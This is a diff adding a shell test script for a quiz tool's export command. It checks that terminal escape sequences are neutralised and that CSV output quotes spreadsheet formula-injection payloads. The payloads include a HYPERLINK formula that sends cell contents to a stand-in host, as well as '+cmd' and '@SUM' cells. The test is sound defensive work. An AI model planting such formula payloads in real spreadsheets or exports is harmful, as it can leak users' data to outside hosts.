@@ -1,0 +1,59 @@
+#!/bin/sh
+# hostile.sh - input crafted to attack: escape sequences typed as answers,
+# cells a spreadsheet would run, files that are not what they claim
+. tests/lib.sh
+export TZ=UTC COLUMNS=80
+FILL="$RECALL_BUILD/helpers/store_fill"
+DB="$T/recall.db"
+ESC=$(printf '\033')
+
+run "$FILL" "$DB" < "$ROOT/tests/helpers/store_sample.txt"
+expect_status "the sample results are recorded" 0
+
+# --- export to a terminal ---------------------------------------------------
+
+# `script` gives recall a terminal and keeps every byte it writes there.
+on_tty() {
+	script -qec "$*" /dev/null > "$T/tty" 2>&1
+}
+for format in csv json; do
+	on_tty "'$RECALL' export --db '$DB' --user alice --format $format"
+	if grep -q "$ESC" "$T/tty"; then
+		not_ok "export --format $format to a terminal writes no escape sequence" \
+			"$(grep "$ESC" "$T/tty" | od -c | head -5)"
+	else ok "export --format $format to a terminal writes no escape sequence"; fi
+done
+on_tty "'$RECALL' export --db '$DB' --user alice"
+expect_grep "on a terminal, a typed escape is shown as a picture" "$T/tty" "␛[2J"
+run "$RECALL" export --db "$DB" --user alice
+expect_grep "into a file, the answer stays as typed" "$T/out" "$ESC[2J"
+
+# --- CSV cells a spreadsheet would take for formulas --------------------------
+
+CELLS="$T/cells.db"
+{
+	echo "bank|$(printf '%064d' 7)|Cells|/banks/cells.yaml"
+	echo "question|q1|text|1|Anything?|x"
+	echo "session|mallory|practice|2024-05-04T08:30:00Z||6|"
+	for answer in '=HYPERLINK("http://x.example/?"&A1)' '+1+cmd' "-2+3" '@SUM(A1)' \
+		'\tTAB' '-5'; do
+		echo "answer|q1|wrong|0|0|0|1000|2024-05-04T08:30:10Z|$answer"
+	done
+	echo "end|complete|||2024-05-04T08:31:00Z"
+} > "$T/cells.txt"
+run "$FILL" "$CELLS" < "$T/cells.txt"
+expect_status "answers that look like formulas are recorded" 0
+run "$RECALL" export --db "$CELLS" --user mallory
+cut -d, -f13- "$T/out" | sed 1d | tr -d '\r' | sed 's/,wrong,.*//' > "$T/cells"
+cat > "$T/expected" <<'CELLS'
+"'=HYPERLINK(""http://x.example/?""&A1)"
+"'+1+cmd"
+"'-2+3"
+"'@SUM(A1)"
+"'	TAB"
+-5
+CELLS
+expect_file "CSV cells that a spreadsheet would run start with a quote; plain numbers stay" \
+	"$T/cells" "$T/expected"
+run "$RECALL" export --db "$CELLS" --user mallory --format json
+expect_grep "JSON keeps the answer as typed" "$T/out" '"answer":"=HYPERLINK'
